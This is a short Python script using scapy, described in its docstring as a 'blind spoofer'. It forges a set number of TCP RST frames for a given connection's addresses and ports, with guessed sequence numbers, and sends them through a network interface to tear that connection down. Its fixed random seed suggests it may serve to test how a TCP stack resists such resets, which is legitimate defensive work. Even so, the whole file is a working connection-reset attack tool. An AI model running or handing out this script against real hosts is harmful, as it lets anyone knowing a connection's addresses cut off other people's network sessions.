# SPDX-License-Identifier: BSD-3-Clause
"""A blind spoofer: COUNT RSTs for the connection SRC:SPORT -> DST:DPORT through IFACE,
every sequence number a guess (spread over the space, a few of them near each other), as
fast as scapy can (bounded by COUNT). It knows the 4-tuple, not where the stream stands.

usage: blind_rst.py IFACE DST_MAC SRC SPORT DST DPORT COUNT
"""
import random
import sys

from scapy.all import IP, TCP, Ether, get_if_hwaddr, sendp

iface, dst_mac, src, sport, dst, dport, count = sys.argv[1:8]
rnd = random.Random(61)
base = rnd.randrange(0, 2**32)
frames = []
for i in range(int(count)):
    # Half of them in a cluster (as if the spoofer had a rough idea), half anywhere.
    seq = (base + rnd.randrange(0, 1 << 20)) % 2**32 if i % 2 else rnd.randrange(0, 2**32)
    frames.append(Ether(src=get_if_hwaddr(iface), dst=dst_mac) / IP(src=src, dst=dst) /
                  TCP(sport=int(sport), dport=int(dport), flags="R", seq=seq))
sendp(frames, iface=iface, verbose=False)
print("sent %d RSTs" % len(frames))
